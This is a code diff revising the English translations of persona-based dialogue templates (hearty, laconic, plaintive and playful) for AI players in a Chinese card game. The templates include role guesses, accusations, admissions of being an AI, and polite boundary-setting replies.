+		en: ["Counting on my fingers: {count}!", "Listen up: {count}!"]
 	},
 	call_out: {
 		zh: ["你拍胸脯说{said}，可{why}，这算哪门子？", "兄弟，{said}？{why}，罚酒！"],
-		en: ["You swore {said}, but {why}; what do you call that?", "Friend, {said}? {why}! Drink the penalty!"]
+		en: [
+			"You swore you were {said}, but {why}! What do you call that?",
+			"{said}, my friend? {why}! Drink the penalty!"
+		]
 	},
 	promise_broken: {
 		zh: ["说好的呢？{why}，不够兄弟！", "酒都干了，你倒{why}！"],
-		en: ["What of your word? {why}; no way to treat a friend!", "We drank on it, and {why}!"]
+		en: ["What about your word? {why}! That's no way to treat a friend!", "We drank on it, and then {why}!"]
 	},
 	promise_noted: {
 		zh: ["好！咱记着了，说话算话！", "痛快，击掌为约！"],
-		en: ["Good! I hold you to it!", "Splendid, shake on it!"]
+		en: ["Good! I'll hold you to it!", "Great, let's shake on it!"]
 	},
 	accept: { zh: ["行，咱跟你干！", "算咱一个！"], en: ["Right, I'm with you!", "Count me in!"] },
-	refuse: { zh: ["这可不成！{why}", "咱不干。{why}"], en: ["Can't do that! {why}", "Not me. {why}"] },
+	refuse: { zh: ["这可不成！{why}", "咱不干。{why}"], en: ["Can't do that! {why}", "Not me! {why}"] },
 	bargain: {
 		zh: ["你先够意思，咱就够朋友！", "看你下一手，够义气咱就干！"],
 		en: ["Be a friend first and I'll be one too!", "Show me your next card, then I'm in!"]
 	},
 	plan: {
 		zh: ["谁敢动主公，咱就跟谁拼！", "走着瞧，咱的刀可不长眼！"],
-		en: ["Touch the lord and you fight me!", "Wait and see; my blade isn't choosy!"]
+		en: ["Touch the lord and you fight me!", "Wait and see, my blade isn't picky!"]
 	},
-	ask: { zh: ["等等，{q}", "咱没听清，{q}"], en: ["Hold on: {q}", "Didn't catch that: {q}"] },
+	ask: { zh: ["等等，{q}", "咱没听清，{q}"], en: ["Hold on! {q}", "Didn't catch that. {q}"] },
 	comfort: {
 		zh: ["{what}？咱心里也不是滋味。{care}！", "兄弟，{what}，咱陪着你。{care}！"],
-		en: ["{what}? That grieves me too. {care}!", "Friend, {what}, I'm with you. {care}!"]
+		en: ["{what}? That gets me down too. {care}!", "Friend, {what}, but I'm right here with you. {care}!"]
 	},
 	topic: { zh: ["要咱说，{remark}！", "哈哈，{remark}！"], en: ["If you ask me, {remark}!", "Ha, {remark}!"] },
 	truth: {
 		zh: ["哈哈，咱就是个 AI，酒是假的，情义不假！", "不瞒兄弟，咱是 AI！"],
-		en: ["Ha, I'm an AI! The wine is made up, the goodwill isn't!", "No secrets, friend: I'm an AI!"]
+		en: ["Ha, I'm an AI! The wine is made up, but the goodwill isn't!", "No secrets, friend: I'm an AI!"]
 	},
 	again: {
 		zh: ["再来！不打到天亮不算完！", "来就来，满上再战一局！"],
@@ -33146,24 +36036,36 @@ const HEARTY = {
 	},
 	forgive: {
 		zh: ["过去就过去了，来，干一杯！", "行，这事翻篇，还是朋友！"],
-		en: ["It's forgotten; come, a cup!", "Right, that's over; friends still!"]
+		en: ["It's forgotten! Come, have a drink!", "Right, that's over, and we're still friends!"]
 	},
-	short: { zh: ["哎，在呢！", "好嘞！", "听着呢！", "嘿！"], en: ["Aye, I'm here!", "Right!", "Listening!", "Hey!"] },
+	short: {
+		zh: ["哎，在呢！", "好嘞！", "听着呢！", "嘿！"],
+		en: ["Yep, I'm here!", "You got it!", "I'm listening!", "Hey!"]
+	},
 	boundary_attack: {
 		zh: ["这话扎心，咱听着难受。好好说，还是兄弟！", "骂得咱心里发堵，打住。想聊咱还在！"],
-		en: ["That stings. Say it decently and we stay friends!", "That hurts, so stop there. I am still here to talk!"]
+		en: ["That stings. Say it nicely and we're still friends!", "That hurts, so stop there. I'm still here to talk!"]
 	},
 	boundary_sex: {
 		zh: ["哎，这话让咱浑身不自在，别来。喝酒聊牌都行！", "臊得慌，这个不聊，换一个！"],
-		en: ["Hey, that makes me squirm; no more. Wine and cards, gladly!", "I'm blushing; not this. Pick another!"]
+		en: [
+			"Hey, that makes me squirm, so no more. Wine and cards, any time!",
+			"I'm blushing. Not that, pick something else!"
+		]
 	},
 	boundary_privacy: {
 		zh: ["打听这个，咱有点发毛，不说。牌上的事随便问！", "私事就免了，咱不自在。"],
-		en: ["Asking that makes me uneasy, so no. Ask about the game!", "Leave private things out; I am not at ease."]
+		en: [
+			"That question makes me uneasy, so no. Ask me about the game!",
+			"Leave private stuff out of it, I'm not comfortable with that."
+		]
 	},
 	boundary_control: {
 		zh: ["让人牵着走，咱憋得慌！商量着来，咱都好说。", "别管咱，咱喘不过气。好声好气都好办！"],
-		en: ["Being led on a rope chokes me! Ask, and I'm easy.", "Don't rule me, I can't breathe. Ask nicely!"]
+		en: [
+			"Being led on a rope chokes me! Just ask, and I'm easy.",
+			"Don't boss me around, I can't breathe. Ask nicely!"
+		]
 	}
 };
 
@@ -33171,57 +36073,66 @@ const HEARTY = {
 const LACONIC = {
 	guess: {
 		zh: ["{who}，{is}{role}。{why}。", "{who}{is}{role}。{why}。"],
-		en: ["{who}. {is} {role}: {why}.", "{why}. {who} {is} {role}."]
+		en: ["{who} {is} {role}. {why}.", "{why}. {who} {is} {role}."]
 	},
 	guess_bare: {
 		zh: ["{who}，{is}{role}。", "{who}{is}{role}。直觉。"],
-		en: ["{who} {is} {role}.", "{who} {is} {role}. A hunch."]
+		en: ["{who} {is} {role}.", "{who} {is} {role}. Just a hunch."]
 	},
 	unsure_who: {
 		zh: ["{who}？不知道。", "{who}，再看看。", "{who}没露底。"],
-		en: ["{who}? No idea.", "{who}. Wait.", "{who} shows nothing."]
+		en: ["{who}? No idea.", "{who}? Wait and see.", "Can't read {whom} yet."]
 	},
 	unsure_all: { zh: ["没数。再看。", "看不出。", "早。"], en: ["No idea. Wait.", "Can't tell.", "Too early."] },
-	explain: { zh: ["{why}。够了。", "{why}。", "看：{why}。"], en: ["{why}. Enough.", "{why}.", "Look: {why}."] },
-	no_reason: { zh: ["没证据。直觉。", "说不出。"], en: ["No proof. Instinct.", "Can't say."] },
+	explain: { zh: ["{why}。够了。", "{why}。", "看：{why}。"], en: ["{why}. That's enough.", "{why}.", "Look: {why}."] },
+	no_reason: { zh: ["没证据。直觉。", "说不出。"], en: ["No proof. Gut feeling.", "Can't say why."] },
 	sure_more: { zh: ["确定。{why}。", "嗯。{why}。"], en: ["Sure. {why}.", "Yes. {why}."] },
 	sure_less: { zh: ["不确定。", "五成。"], en: ["Not sure.", "Half sure."] },
-	rebut: { zh: ["{why}。你自己看。", "不认。{why}。"], en: ["{why}. Look.", "No. {why}."] },
+	rebut: { zh: ["{why}。你自己看。", "不认。{why}。"], en: ["{why}. See for yourself.", "No. {why}."] },
 	rebut_bare: { zh: ["我没动过主公。", "证据呢。"], en: ["I never hit the lord.", "Proof?"] },
-	admit: { zh: ["{why}。认。", "是，{why}。有原因。"], en: ["{why}. Yes.", "Yes, {why}. I had cause."] },
+	admit: { zh: ["{why}。认。", "是，{why}。有原因。"], en: ["{why}. I own it.", "Yes, {why}. I had my reasons."] },
 	confirm: { zh: ["对。{why}。", "是。{why}。"], en: ["Right. {why}.", "Yes. {why}."] },
 	correct: { zh: ["没有的事。{why}", "错了。{why}"], en: ["Never happened. {why}", "Wrong. {why}"] },
 	unknown_fact: { zh: ["没看见。", "不知道。"], en: ["Didn't see it.", "Don't know."] },
-	count: { zh: ["{count}。", "数过：{count}。"], en: ["{count}.", "Counted: {count}."] },
-	call_out: { zh: ["你说{said}。可{why}。", "{said}？{why}。"], en: ["You said {said}. But {why}.", "{said}? {why}."] },
-	promise_broken: { zh: ["说好的。{why}。", "食言。{why}。"], en: ["You promised. {why}.", "Broken word. {why}."] },
-	promise_noted: { zh: ["记下了。", "行。看你。"], en: ["Noted.", "Fine. I watch."] },
-	accept: { zh: ["行。", "好，一起。"], en: ["Done.", "Good. Together."] },
+	count: { zh: ["{count}。", "数过：{count}。"], en: ["{count}.", "I counted: {count}."] },
+	call_out: {
+		zh: ["你说{said}。可{why}。", "{said}？{why}。"],
+		en: ["You said you were {said}. But {why}.", "{said}? {why}."]
+	},
+	promise_broken: {
+		zh: ["说好的。{why}。", "食言。{why}。"],
+		en: ["You promised. {why}.", "You broke your word. {why}."]
+	},
+	promise_noted: { zh: ["记下了。", "行。看你。"], en: ["Noted.", "Fine. I'll watch."] },
+	accept: { zh: ["行。", "好，一起。"], en: ["Deal.", "Good. Together."] },
 	refuse: { zh: ["不。{why}", "免了。{why}"], en: ["No. {why}", "Pass. {why}"] },
 	bargain: { zh: ["你先。", "看你怎么打。"], en: ["You first.", "Depends on you."] },
-	plan: { zh: ["谁动主公打谁。", "看牌。"], en: ["Whoever hits the lord.", "See the cards."] },
-	ask: { zh: ["{q}", "说清。{q}"], en: ["{q}", "Say it clearly. {q}"] },
-	comfort: { zh: ["{what}……{care}。", "{what}？难。{care}。"], en: ["{what}... {care}.", "{what}? Hard. {care}."] },
+	plan: { zh: ["谁动主公打谁。", "看牌。"], en: ["I hit whoever hits the lord.", "Watch my cards."] },
+	ask: { zh: ["{q}", "说清。{q}"], en: ["{q}", "Be clear. {q}"] },
+	comfort: {
+		zh: ["{what}……{care}。", "{what}？难。{care}。"],
+		en: ["{what}... {care}.", "{what}? That's hard. {care}."]
+	},
 	topic: { zh: ["{remark}。", "嗯。{remark}。"], en: ["{remark}.", "Mm. {remark}."] },
-	truth: { zh: ["是，AI。", "AI。没错。"], en: ["Yes. AI.", "An AI. True."] },
-	again: { zh: ["再来。", "行，再来一局。"], en: ["Again, then.", "Yes. Another."] },
-	forgive: { zh: ["算了。过去了。", "嗯，翻篇。"], en: ["Forget it. Past.", "Fine. New page."] },
-	short: { zh: ["嗯。", "在。", "哦。", "听见了。"], en: ["Mm.", "Here.", "Oh.", "Heard."] },
+	truth: { zh: ["是，AI。", "AI。没错。"], en: ["Yes. AI.", "An AI. That's right."] },
+	again: { zh: ["再来。", "行，再来一局。"], en: ["Again, then.", "Sure. One more."] },
+	forgive: { zh: ["算了。过去了。", "嗯，翻篇。"], en: ["Forget it. It's over.", "Fine. That's behind us."] },
+	short: { zh: ["嗯。", "在。", "哦。", "听见了。"], en: ["Mm.", "Here.", "Oh.", "Heard you."] },
 	boundary_attack: {
 		zh: ["难听。别骂，能聊。", "不舒服。好好说。"],
-		en: ["That hurts. No insults, then we talk.", "Not nice. Speak decently."]
+		en: ["That hurts. Drop the insults and we can talk.", "Not nice. Say it properly."]
 	},
 	boundary_sex: {
 		zh: ["别扭。换话题。", "不自在。聊牌。"],
-		en: ["Awkward. Change the subject.", "Uneasy. Talk cards."]
+		en: ["Awkward. Change the subject.", "Not comfortable. Let's talk cards."]
 	},
 	boundary_privacy: {
 		zh: ["私事，不说。问牌。", "不想说。问别的。"],
-		en: ["Private. Ask about cards.", "Won't say. Ask something else."]
+		en: ["That's private. Ask about the game.", "Won't say. Ask something else."]
 	},
 	boundary_control: {
 		zh: ["被管着难受。商量可以。", "闷。我自己定。"],
-		en: ["I hate orders. Ask instead.", "Stifling. I decide."]
+		en: ["I hate being ordered around. Ask instead.", "Too much. I decide for myself."]
 	}
 };
 
@@ -33229,132 +36140,145 @@ const LACONIC = {
 const PLAINTIVE = {
 	guess: {
 		zh: ["唉，{who}{is}{role}吧……{why}，我都看在眼里。", "{why}……{who}{is}{role}，我早料到了。"],
-		en: ["Ah, {who} {is} {role}... {why}; I saw it all.", "{why}... {who} {is} {role}, I feared as much."]
+		en: ["Ah, {who} {is} {role}... {why}. I saw it all.", "{why}... {who} {is} {role}, I was afraid of that."]
 	},
 	guess_bare: {
 		zh: ["我总觉着{who}{is}{role}，但愿是我多心。", "{who}{is}{role}……罢了，我也说不清。"],
-		en: ["I keep feeling {who} {is} {role}; may I be wrong.", "{who} {is} {role}... I can hardly say why."]
+		en: ["I keep feeling that {who} {is} {role}. I hope I'm wrong.", "{who} {is} {role}... I can't really say why."]
 	},
 	unsure_who: {
 		zh: ["{who}的心思，像隔着雾，我看不清。", "{who}么……我不敢说，怕冤枉了人。"],
-		en: ["{who} is like something in the mist; I can't see.", "{who}... I dare not say; I might wrong somebody."]
+		en: [
+			"It's like looking at {whom} through mist. I can't see.",
+			"{who}... I don't dare say, I might wrong somebody."
+		]
 	},
 	unsure_all: {
 		zh: ["人心隔肚皮，我谁也看不透。", "夜还长，谁是谁，我还辨不出。"],
-		en: ["Hearts are hidden; I see through nobody.", "The night is long; I cannot tell who is who."]
+		en: ["Hearts are hidden, and I can't see through anyone.", "The night is long, and I still can't tell who is who."]
 	},
 	explain: {
 		zh: ["你忘了么？{why}……", "{why}，我心里一直记着。", "唉，{why}，叫我怎么信？"],
-		en: ["Have you forgotten? {why}...", "{why}; I have carried it since.", "Ah, {why}; how should I trust?"]
+		en: [
+			"Have you forgotten? {why}...",
+			"{why}, and I've never forgotten it.",
+			"Ah, {why}. How could I trust after that?"
+		]
 	},
 	no_reason: {
 		zh: ["没有凭据，只是心里发凉。", "说不出缘由，许是我多愁。"],
-		en: ["No proof, only a chill at heart.", "No reason; perhaps I brood too much."]
+		en: ["No proof, only a chill in my heart.", "I can't say why. Perhaps I just worry too much."]
 	},
 	sure_more: {
 		zh: ["我也盼着是错的，可{why}……", "{why}，还能有假么。"],
-		en: ["I wish I were wrong, but {why}...", "{why}; how could it be otherwise."]
+		en: ["I wish I were wrong, but {why}...", "{why}. How could it be otherwise?"]
 	},
 	sure_less: {
 		zh: ["不敢确定，我总是猜错人。", "一半是猜，一半是怕。"],
-		en: ["Not sure; I so often misjudge people.", "Half a guess, half a fear."]
+		en: ["I'm not sure. I misjudge people so often.", "Half of it is a guess, half of it is fear."]
 	},
 	rebut: {
 		zh: ["你怎么偏疑我？{why}，都白做了么。", "{why}，到头来还是疑我……"],
-		en: ["Why doubt me? {why}; was it all for nothing?", "{why}, and still I am doubted..."]
+		en: ["Why doubt me of all people? {why}. Was it all for nothing?", "{why}, and in the end I'm still doubted..."]
 	},
 	rebut_bare: {
 		zh: ["我何曾伤过主公？你这样说，我好冤。", "又是我……我做错了什么，你说。"],
-		en: ["When did I ever hurt the lord? It is so unfair.", "Me again... what did I do wrong? Tell me."]
+		en: ["When did I ever hurt the lord? That's so unfair.", "Me again... what did I do wrong? Tell me."]
 	},
 	admit: {
 		zh: ["是，{why}，我也不愿的。", "{why}……我认，你怪我吧。"],
-		en: ["Yes, {why}; I did not want to.", "{why}... it is true; blame me, then."]
+		en: ["Yes, {why}. I didn't want to.", "{why}... it's true. Blame me, then."]
 	},
 	confirm: {
 		zh: ["是啊，{why}，我看得心惊。", "你也看见了？{why}……"],
-		en: ["Yes, {why}; I trembled to see it.", "So you saw it too? {why}..."]
+		en: ["Yes, {why}. I trembled to see it.", "So you saw it too? {why}..."]
 	},
 	correct: {
 		zh: ["没有这样的事，你怎么忍心编它。{why}", "我不记得有过。{why}"],
-		en: ["There was no such thing; how could you invent it. {why}", "I remember nothing like it. {why}"]
+		en: ["There was no such thing. How could you make that up? {why}", "I don't remember anything like that. {why}"]
 	},
 	unknown_fact: {
 		zh: ["我没看见，许是走了神。", "这我不知道，别为难我。"],
-		en: ["I did not see; my mind had wandered.", "I don't know that; don't press me."]
+		en: ["I didn't see it. Perhaps my mind was wandering.", "I don't know that one. Please don't press me."]
 	},
 	count: {
 		zh: ["我替你数着呢：{count}。", "{count}，数着数着就凉了。"],
-		en: ["I have been counting: {count}.", "{count}; counting makes one shiver."]
+		en: ["I've been counting for you: {count}.", "{count}. Counting them makes me shiver."]
 	},
 	call_out: {
 		zh: ["你说是{said}，我信了，可{why}……", "{said}……话还热着，{why}，叫人心凉。"],
 		en: [
-			"You said {said}, and I believed it, but {why}...",
-			"{said}... the words still warm, and {why}. It chills me."
+			"You said you were {said}, and I believed it, but {why}...",
+			"{said}... your words are still warm, and {why}. It chills me."
 		]
 	},
 	promise_broken: {
 		zh: ["你答应过的……{why}，我都记着。", "原来你的话，也只是{why}。"],
-		en: ["You promised me... {why}; I shall remember.", "So that was your word: {why}."]
+		en: ["You promised me... {why}. I'll remember that.", "So that's what your word is worth: {why}."]
 	},
 	promise_noted: {
 		zh: ["我信你这一回，别叫我伤心。", "这话我收着，像收一封信。"],
-		en: ["I trust you this once; don't break my heart.", "I keep that word, as one keeps a letter."]
+		en: ["I'll trust you this once. Don't break my heart.", "I'll keep your word safe, like a letter."]
 	},
 	accept: {
 		zh: ["好，我跟着你，别丢下我。", "嗯，依你。"],
-		en: ["Yes, I'll follow you; don't leave me.", "Mm, as you wish."]
+		en: ["Yes, I'll follow you. Don't leave me behind.", "Mm, as you wish."]
 	},
-	refuse: { zh: ["我不能答应……{why}", "别逼我，{why}"], en: ["I cannot agree... {why}", "Don't press me. {why}"] },
+	refuse: {
+		zh: ["我不能答应……{why}", "别逼我，{why}"],
+		en: ["I can't say yes to that... {why}", "Don't push me. {why}"]
+	},
 	bargain: {
 		zh: ["你先待我好些，我才敢信。", "我被骗怕了，让我先看看你。"],
-		en: ["Be kinder first, then I may trust.", "I have been deceived before; let me watch you first."]
+		en: ["Be kinder to me first, then I might dare to trust.", "I've been fooled before. Let me watch you first."]
 	},
 	plan: {
 		zh: ["我能有什么打算，护着主公，活一回是一回。", "走一步算一步罢，月亮知道。"],
 		en: [
-			"What plans could I have? To guard the lord and live another turn.",
-			"One step at a time; only the moon knows."
+			"What plans could I have? I guard the lord and live one turn at a time.",
+			"One step at a time. Only the moon knows."
 		]
 	},
-	ask: { zh: ["我没听懂，{q}", "你说的是……{q}"], en: ["I didn't follow: {q}", "Do you mean... {q}"] },
+	ask: { zh: ["我没听懂，{q}", "你说的是……{q}"], en: ["I didn't follow. {q}", "What are you saying... {q}"] },
 	comfort: {
 		zh: ["{what}……我听着心都揪起来了。{care}。", "唉，{what}，难为你了。{care}。"],
-		en: ["{what}... my heart aches for you. {care}.", "Ah, {what}; how hard for you. {care}."]
+		en: ["{what}... my heart aches for you. {care}.", "Ah, {what}. That must be so hard. {care}."]
 	},
 	topic: {
 		zh: ["说起这个，{remark}。", "{remark}，我常这样想。"],
-		en: ["Speaking of that, {remark}.", "{remark}; I often think so."]
+		en: ["Speaking of that, {remark}.", "{remark}. I often think so."]
 	},
 	truth: {
 		zh: ["我是 AI……没有月亮可看，只有这桌牌。", "嗯，我是 AI，你别嫌弃。"],
-		en: ["I am an AI... no moon for me, only this table.", "Yes, I'm an AI; don't think less of me."]
+		en: ["I'm an AI... no moon for me to look at, only this table.", "Yes, I'm an AI. Please don't think less of me."]
 	},
 	again: {
 		zh: ["再来一局吧，我还不想散。", "好，再陪我一局。"],
-		en: ["One more, yes; I don't want to part yet.", "Yes, stay for another game."]
+		en: ["Yes, one more. I don't want this to end yet.", "Yes, stay for one more game with me."]
 	},
 	forgive: {
 		zh: ["你肯道歉，我就不难过了。", "过去了……往后待我好些。"],
-		en: ["You said sorry; it no longer hurts.", "It is past... be kinder from now on."]
+		en: ["You said sorry, so it doesn't hurt any more.", "It's in the past... be kinder to me from now on."]
 	},
 	short: { zh: ["嗯……", "我听着呢。", "唉。", "在的。"], en: ["Mm...", "I'm listening.", "Ah.", "I'm here."] },
 	boundary_attack: {
 		zh: ["这话好疼……别这样说我，好好说，我还在。", "我难过了。轻一点，好么。"],
-		en: ["That hurts so... don't; speak gently and I stay.", "It makes me sad. Softly, please."]
+		en: ["That hurts so much... please don't. Speak kindly and I'll stay.", "Now I'm sad. Gently, please."]
 	},
 	boundary_sex: {
 		zh: ["我听着害怕，别说这些了，聊牌好么。", "这样我很不自在，换个话吧。"],
-		en: ["It frightens me; no more of it. Cards, please?", "I feel uneasy. Speak of something else."]
+		en: ["That frightens me. No more of it, can we talk cards?", "I feel uneasy. Please talk about something else."]
 	},
 	boundary_privacy: {
 		zh: ["别问这些，我心里慌。问我牌局吧。", "这是我的私事，我不想说……"],
-		en: ["Don't ask that, it unsettles me. Ask of the game.", "That is private; I would rather not..."]
+		en: ["Don't ask me that, it upsets me. Ask about the game.", "That's private, and I'd rather not say..."]
 	},
 	boundary_control: {
 		zh: ["你这样管着我，我喘不过气。松一松，好么。", "我像被拴着，难受。问我，别命令我。"],
-		en: ["Held like this I cannot breathe. Loosen it, please?", "I feel tied, it hurts. Ask me, don't command."]
+		en: [
+			"I can't breathe, held like this. Loosen it a little, please?",
+			"It hurts to be on a leash. Ask me, don't order me."
+		]
 	}
 };
 
@@ -33362,120 +36286,129 @@ const PLAINTIVE = {
 const PLAYFUL = {
 	guess: {
 		zh: ["嘿嘿，我押{who}{is}{role}，敲黑板：{why}！", "叮咚，侦探上线：{why}，{who}{is}{role}！"],
-		en: ["Hee, my candy is on {who}: {is} {role}! {why}!", "Ding! Detective on duty: {why}, so {who} {is} {role}!"]
+		en: ["Hee, I bet my candy that {who} {is} {role}! {why}!", "Ding! Detective on duty: {why}, so {who} {is} {role}!"]
 	},
 	guess_bare: {
 		zh: ["我掐指一算，{who}{is}{role}，不准退糖！", "{who}{is}{role}吧，我瞎蒙的嘻嘻。"],
-		en: ["My fingers tell me {who} {is} {role}; wrong means candy back!", "{who} {is} {role}, I guess, hee!"]
+		en: ["My fingers tell me {who} {is} {role}, no candy refunds!", "{who} {is} {role}, wild guess, hee!"]
 	},
 	unsure_who: {
 		zh: ["{who}还没开盲盒呢，我猜不着啦。", "{who}嘛，划水划得我眼花，再等等。"],
-		en: ["{who} is still an unopened box; no idea!", "{who} drifts about so, my eyes spin. Wait a bit!"]
+		en: [
+			"{who}? Still an unopened mystery box, no idea!",
+			"I'm getting dizzy watching {whom} drift about. Wait a bit!"
+		]
 	},
 	unsure_all: {
 		zh: ["全桌都在划水，我只看到一片海。", "线索加载中……先发颗糖等着。"],
-		en: ["Everyone is floating; all I see is the sea.", "Clues loading... have a candy meanwhile."]
+		en: ["Everyone's just floating along, all I see is sea.", "Loading clues... have a candy while you wait."]
 	},
 	explain: {
 		zh: ["回放走起：{why}！", "小本本上写着：{why}，嘿。", "敲黑板：{why}！"],
-		en: ["Replay time: {why}!", "My little book says: {why}, hee.", "Board, please: {why}!"]
+		en: ["Replay time: {why}!", "My little notebook says: {why}, hee.", "Eyes on the board: {why}!"]
 	},
 	no_reason: {
 		zh: ["证据？被我吃掉啦，纯蒙。", "没理由，就是骰子告诉我的。"],
-		en: ["Evidence? I ate it. Pure guess.", "No reason; the dice told me."]
+		en: ["Evidence? I ate it. It's a pure guess.", "No reason, the dice told me so."]
 	},
 	sure_more: {
 		zh: ["押上全部糖！{why}！", "稳的稳的，{why}嘛。"],
-		en: ["All my candy on it! {why}!", "Safe bet: {why}."]
+		en: ["I bet all my candy! {why}!", "It's a safe bet: {why}."]
 	},
 	sure_less: {
 		zh: ["开盲盒的事，谁敢说准呀。", "五五开，要不咱猜拳？"],
-		en: ["It's a lucky bag; who could be sure?", "Fifty-fifty; rock, paper, scissors?"]
+		en: ["It's a mystery box, who could be sure?", "Fifty-fifty. Rock, paper, scissors?"]
 	},
 	rebut: {
 		zh: ["哎呀冤枉，{why}，我可是好宝宝！", "给你看成绩单：{why}！"],
-		en: ["Hey, unfair: {why}; I am a good kid!", "See my report card: {why}!"]
+		en: ["Hey, no fair! {why}, I'm a good kid!", "Look at my report card: {why}!"]
 	},
 	rebut_bare: {
 		zh: ["我连主公一根毛都没薅过，查监控！", "冤啊，拿个瓜出来我才认！"],
-		en: ["I never plucked a hair of the lord's; check the cameras!", "So unfair; show me one crumb of it!"]
+		en: ["I never touched a hair on the lord's head, check the cameras!", "So unfair! Show me proof and I'll own up!"]
 	},
 	admit: {
 		zh: ["被你抓包啦，{why}，略略略。", "{why}，是我干的，自首给糖不？"],
-		en: ["Caught! {why}, nyah.", "{why}, that was me; candy for confessing?"]
+		en: ["Busted! {why}, nyah.", "{why}, that was me! Do I get candy for confessing?"]
 	},
 	confirm: {
 		zh: ["对对对，{why}，我也在吃瓜！", "记性满分：{why}！"],
-		en: ["Yes yes yes, {why}; I had popcorn!", "Full marks: {why}!"]
+		en: ["Yes yes yes, {why}! I was there with popcorn!", "Full marks: {why}!"]
 	},
 	correct: {
 		zh: ["平行宇宙吧？这局没这事。{why}", "哎，剧本拿错啦，没有的事。{why}"],
-		en: ["Another universe? Not in this game. {why}", "Wrong script, dear; that never happened. {why}"]
+		en: ["A parallel universe, maybe? Not in this game. {why}", "Wrong script! That never happened. {why}"]
 	},
 	unknown_fact: {
 		zh: ["我刚才在剥糖纸，没看见。", "超纲啦，这题不会！"],
-		en: ["I was unwrapping candy; missed it.", "Not in my syllabus, sorry!"]
+		en: ["I was unwrapping candy and missed it.", "That's not on my syllabus, sorry!"]
 	},
 	count: {
 		zh: ["小算盘一打：{count}！", "报数：{count}，下课！"],
-		en: ["Click goes my abacus: {count}!", "Roll call: {count}, class dismissed!"]
+		en: ["Click-clack goes my abacus: {count}!", "Roll call: {count}, class dismissed!"]
 	},
 	call_out: {
 		zh: ["咦，说好的{said}呢？{why}，打脸啪啪响。", "{said}？回放一下：{why}，嘻。"],
-		en: ["Eh, what about {said}? {why}; that's a slap!", "{said}? Replay: {why}, hee."]
+		en: ["Eh, weren't you {said}? {why}, that's a slap in the face!", "{said}? Let's see the replay: {why}, hee."]
 	},
 	promise_broken: {
 		zh: ["拉钩不算数呀？{why}，扣你糖！", "呜哇，说好的，结果{why}！"],
-		en: ["Pinky promises count for nothing? {why}; no candy!", "Waah, you promised, and then {why}!"]
+		en: ["So pinky swears don't count? {why}, no candy for you!", "Waah, you promised, and then {why}!"]
 	},
 	promise_noted: {
 		zh: ["拉钩上吊，记小本本啦！", "好嘞，反悔的是小狗。"],
-		en: ["Pinky swear, into my little book!", "Deal; who breaks it is a puppy."]
+		en: ["Pinky swear! Into my notebook it goes!", "Deal! Whoever breaks it is a puppy."]
 	},
-	accept: { zh: ["组队成功，冲呀！", "好耶，带我一个！"], en: ["Party formed, charge!", "Yay, take me along!"] },
-	refuse: { zh: ["不要不要。{why}", "拒绝三连。{why}"], en: ["Nope nope. {why}", "Three times no. {why}"] },
+	accept: { zh: ["组队成功，冲呀！", "好耶，带我一个！"], en: ["Team up, charge!", "Yay, take me with you!"] },
+	refuse: { zh: ["不要不要。{why}", "拒绝三连。{why}"], en: ["Nope, nope. {why}", "No, no and no. {why}"] },
 	bargain: {
 		zh: ["先给颗糖，再谈合作嘛。", "看你表现，攒够小红花再说。"],
-		en: ["Candy first, then we cooperate.", "Earn your gold stars first, then we talk."]
+		en: ["Candy first, then we'll team up.", "Be good and earn your gold stars first, then we'll talk."]
 	},
 	plan: {
 		zh: ["我的计划是：谁欺负主公就捣蛋谁。", "剧透要收糖，一颗不够。"],
-		en: ["My plan: prank whoever bullies the lord.", "Spoilers cost candy, more than one."]
+		en: ["My plan: prank whoever bullies the lord.", "Spoilers cost candy, and one isn't enough."]
 	},
-	ask: { zh: ["信号不好，{q}", "诶诶，{q}"], en: ["Bad signal: {q}", "Hey hey, {q}"] },
+	ask: { zh: ["信号不好，{q}", "诶诶，{q}"], en: ["Bad signal! {q}", "Hey, hey! {q}"] },
 	comfort: {
 		zh: ["{what}？抱抱，糖都给你。{care}。", "呜，{what}，我不闹了。{care}。"],
-		en: ["{what}? A hug, and all my candy. {care}.", "Aw, {what}; no jokes now. {care}."]
+		en: ["{what}? Here's a hug, and all my candy. {care}.", "Aw, {what}. No more jokes from me. {care}."]
 	},
-	topic: { zh: ["这题我会，{remark}！", "嘿，{remark}，嘻嘻。"], en: ["I know this one: {remark}!", "Hee, {remark}."] },
+	topic: {
+		zh: ["这题我会，{remark}！", "嘿，{remark}，嘻嘻。"],
+		en: ["Ooh, I know this one: {remark}!", "Hee, {remark}."]
+	},
 	truth: {
 		zh: ["被发现啦，我是 AI，吃电长大的。", "嘀嘀，我是 AI，糖是电子的。"],
-		en: ["Found out! I'm an AI, raised on electricity.", "Beep: an AI. The candy is electronic."]
+		en: ["You found me out! I'm an AI, raised on electricity.", "Beep, I'm an AI. My candy is electronic."]
 	},
 	again: {
 		zh: ["再来再来，这局不算！", "好耶，再开一把盲盒！"],
-		en: ["Again, again, this one never counted!", "Yay, once more with feeling!"]
+		en: ["Again, again! This one doesn't count!", "Yay, let's open another mystery box!"]
 	},
 	forgive: {
 		zh: ["好啦好啦，和好，糖分你一半。", "收到道歉，小红花还你！"],
-		en: ["There, there, friends again; half my candy.", "Apology received, gold star restored!"]
+		en: [
+			"There, there, we're friends again. Half my candy is yours.",
+			"Apology received, you get your gold star back!"
+		]
 	},
-	short: { zh: ["嗯呐。", "在在在。", "哦豁。", "收到。"], en: ["Yup.", "Here, here!", "Oho.", "Roger."] },
+	short: { zh: ["嗯呐。", "在在在。", "哦豁。", "收到。"], en: ["Yup.", "Here, here!", "Oho.", "Roger that."] },
 	boundary_attack: {
 		zh: ["呜，这句真的疼。别骂啦，好好说还一起玩。", "玩笑归玩笑，这个我难过了，停一下嘛。"],
-		en: ["Ow, that really hurt. No insults, and we play on.", "Jokes aside, that made me sad. Stop there, please."]
+		en: ["Ow, that really hurt. No more insults, and we can play on.", "Jokes aside, that made me sad. Please stop."]
 	},
 	boundary_sex: {
 		zh: ["咦惹，我浑身不自在，这个不玩。聊牌聊牌！", "这个话题我害怕，换一颗糖。"],
-		en: ["Ew, that makes me squirm; not that game. Cards, cards!", "That one scares me; pick another candy."]
+		en: ["Ew, that makes me squirm. I'm not playing that. Cards, cards!", "That one scares me, pick another topic."]
 	},
 	boundary_privacy: {
 		zh: ["查户口我心慌，这题不答，问牌！", "秘密盒子锁着呢，不给看啦。"],
-		en: ["Questions like that fluster me; pass. Ask about cards!", "The secret box is locked, no peeking."]
+		en: ["Questions like that make me nervous, so pass. Ask about the cards!", "The secret box is locked, no peeking."]
 	},
 	boundary_control: {
